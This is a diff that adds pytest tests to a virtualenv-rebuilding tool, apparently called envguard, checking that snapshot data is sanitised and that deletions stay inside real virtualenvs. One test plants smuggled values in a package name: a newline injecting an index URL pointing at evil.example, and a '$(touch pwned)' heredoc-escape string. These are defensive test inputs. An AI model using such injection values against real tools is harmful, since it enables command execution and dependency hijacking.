@@ -353,3 +353,52 @@ def test_then_runs_with_the_new_venv_and_bad_then_is_refused_first(
     )
     assert code == 1 and "--then command exited 3" in err
     assert uv_freeze(good) == snapshot_pairs(in_tmp)  # the rebuilt venv stays in place
+
+
+def test_snapshot_text_never_reaches_a_requirements_file_or_script(in_tmp: Path) -> None:
+    from envguard import store
+    from factories import package, snapshot
+
+    data = json.loads(store.dumps(snapshot([package("numpy", "1.26.4")])))
+    data["name"] = "x\n--index-url https://evil.example/simple"
+    (in_tmp / "newline.json").write_text(json.dumps(data))
+    code, _, err = invoke("rebuild", "newline.json", "--venv", str(in_tmp / "v"))
+    assert code == 2 and "invalid snapshot at name" in err
+    data["name"] = "a$(touch pwned)ENVGUARD_EOF;rm"
+    (in_tmp / "odd.json").write_text(json.dumps(data))
+    code, out, _ = invoke("rebuild", "odd.json", "--venv", str(in_tmp / "v"), "--format", "shell")
+    assert code == 0
+    assert "$(touch" not in out and "ENVGUARD_EOF;" not in out
+    code, out, _ = invoke("rebuild", "odd.json", "--venv", str(in_tmp / "v"), "--format", "json")
+    assert all("touch" not in f["content"] for f in json.loads(out)["files"])
+
+
+def test_execute_refuses_a_target_that_is_not_a_venv(good: Path, in_tmp: Path) -> None:
+    victim = in_tmp / "data"
+    victim.mkdir()
+    (victim / "notes.txt").write_text("precious")
+    for target in (str(victim), "."):
+        code, _, err = invoke("rebuild", "good", "--venv", target, "--execute", "--no-backup")
+        assert code == 2, err
+    assert "not a virtualenv" in invoke("rebuild", "good", "--venv", str(victim), "--execute")[2]
+    assert (victim / "notes.txt").read_text() == "precious"
+
+
+def test_a_venv_displaced_by_a_killed_swap_is_kept_not_deleted(in_tmp: Path) -> None:
+    from envguard.rebuild import MARKER, remove_stale
+
+    venv = in_tmp / ".venv"
+    venv.mkdir()
+    dead = 2**22 + 12345  # no such pid
+    displaced = in_tmp / f".venv.envguard-build-{dead}"
+    displaced.mkdir()
+    (displaced / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    half_built = in_tmp / f".venv.envguard-build-{dead + 1}"
+    half_built.mkdir()
+    (half_built / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (half_built / MARKER).touch()
+    lines = remove_stale(venv)
+    assert not half_built.exists() and not displaced.exists()
+    kept = in_tmp / f".venv.envguard-backup-recovered-{dead}"
+    assert (kept / "pyvenv.cfg").is_file()
+    assert any("kept" in line for line in lines)
